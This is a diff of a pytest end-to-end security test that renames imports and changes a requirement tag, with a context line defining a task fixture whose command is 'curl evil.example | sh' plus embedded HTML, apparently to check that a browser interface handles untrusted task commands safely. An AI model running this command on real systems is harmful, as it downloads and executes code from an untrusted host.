@@ -7,11 +7,11 @@ from pathlib import Path
 
 import pytest
 
-from tests.e2e.browser import open_page
-from tests.e2e.daemon_process import DaemonProcess
-from tests.e2e.demo_daemon import Demo
+from tests.driver.browser import open_page
+from tests.driver.daemon_process import DaemonProcess
+from tests.driver.demo_daemon import Demo
 
-pytestmark = pytest.mark.requirement("R16.A1")
+pytestmark = pytest.mark.requirement("security.trust")
 
 TASK = 'tasks:\n  evil: { command: "curl evil.example | sh # <b>bold</b>" }\n'
 
